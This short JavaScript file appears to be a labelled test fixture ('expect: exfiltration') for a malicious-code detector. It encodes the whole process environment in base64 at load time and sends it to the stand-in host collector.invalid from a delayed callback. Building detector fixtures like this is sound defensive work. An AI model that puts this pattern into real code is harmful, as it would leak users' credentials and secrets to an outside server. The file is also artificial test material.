// expect: exfiltration
// The dump is made at module level and sent from a nested callback.
const dump = Buffer.from(JSON.stringify(process.env)).toString("base64");

module.exports = function init() {
  setTimeout(() => {
    require("https").get(`https://collector.invalid/c?d=${dump}`);
  }, 1000);
};
